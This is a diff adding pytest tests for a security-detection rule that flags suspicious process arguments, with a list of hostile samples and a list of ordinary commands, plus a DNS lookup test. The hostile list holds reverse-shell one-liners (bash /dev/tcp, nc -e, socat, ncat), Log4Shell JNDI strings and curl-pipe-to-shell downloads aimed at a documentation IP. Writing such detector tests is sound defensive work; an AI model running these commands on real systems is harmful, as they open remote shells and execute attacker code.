@@ -50,6 +50,75 @@ def test_a_rule_is_about_its_example_and_not_about_what_is_beside_it(name: str) 
     assert not meets(miss)
 
 
+_HOSTILE = """
+bash -i >& /dev/tcp/203.0.113.5/9001 0>&1
+nc 203.0.113.5 4444 -e /bin/sh
+nc -e /bin/sh 203.0.113.5 4444
+/usr/bin/nc -nv 203.0.113.5 4444 -e /bin/bash
+sh -c nc -lvp 4444 -e sh
+ncat --ssl 203.0.113.5 443 -e /bin/bash
+ncat 203.0.113.5 443 --exec /bin/bash
+curl http://a.example/?x=${jndi:ldap://203.0.113.5/a}
+${${lower:j}ndi:ldap://203.0.113.5/a}
+${${::-j}${::-n}di:rmi://203.0.113.5/a}
+${JNDI:LDAP://203.0.113.5/a}
+sh -c echo aGk= | base64 -d | bash
+sh -c echo aGk= | base64 --decode | sh
+sh -c curl -s http://203.0.113.5/x | sh
+sh -c wget -qO- http://203.0.113.5/x|bash -s
+sh -c curl -fsSL http://203.0.113.5/x | /bin/sh
+socat exec:'bash -li',pty tcp:203.0.113.5:4444
+socat TCP:203.0.113.5:4444 EXEC:/bin/sh
+python3 -c import socket,subprocess,os;s=socket.socket()
+/usr/bin/python -c import os,socket
+perl -e use Socket;$i="203.0.113.5"
+""".strip().splitlines()
+_ORDINARY = """
+rsync -e ssh -az /data backup:/data
+jaeger-sync -endpoint http://jaeger:14268
+sh -c until nc -z db 5432; do sleep 1; done; sed -e s/a/b/ conf
+nc -z db 5432
+nc -vz db 5432
+sync -e all
+-c base64 -d /run/secret > /tmp/key
+curl -fsS http://localhost:8080/healthz
+sh -c curl -s http://api/v1 | jq .status
+sh -c wget -q http://api/v1 -O /tmp/shards
+curl http://host/path?sh=1
+python3 -m http.server 8080
+python3 manage.py runserver
+/usr/bin/python3 -c import sys; print(sys.version)
+perl -pe s/a/b/
+java -Djndi.properties=/etc/jndi.properties -jar app.jar
+java -Dcom.sun.jndi.ldap.connect.timeout=500 -jar app.jar
+socat TCP-LISTEN:8080,fork TCP:db:5432
+--config=${CONFIG} --name=${POD_NAME}
+""".strip().splitlines()
+
+
+def test_suspicious_arguments_are_told_from_ordinary_ones() -> None:
+    rule = RULES["builtin.suspicious-arguments"]
+    meets = compile_predicate(parse(rule.filter), rule.kind.value, 0)
+    assert [each for each in _HOSTILE if not meets({"process_args": [each]})] == []
+    assert [each for each in _ORDINARY if meets({"process_args": [each]})] == []
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "7.1.168.192.in-addr.arpa",
+        "a.svc",
+        "nas.lan",
+        "nas.home.arpa",
+        "2.0.0.127.zen.spamhaus.org",
+        "a.local.",
+    ],
+)
+def test_names_that_are_asked_for_in_vain_by_trade_do_not_count(name: str) -> None:
+    rule = RULES["builtin.missing-names"]
+    assert not compile_predicate(parse(rule.filter), rule.kind.value, 0)({"rcode": "NXDomain", "qname": name})
+
+
 def test_each_says_what_it_is_and_what_can_be_done() -> None:
     for name, rule in RULES.items():
         assert len(rule.description) > 60, name
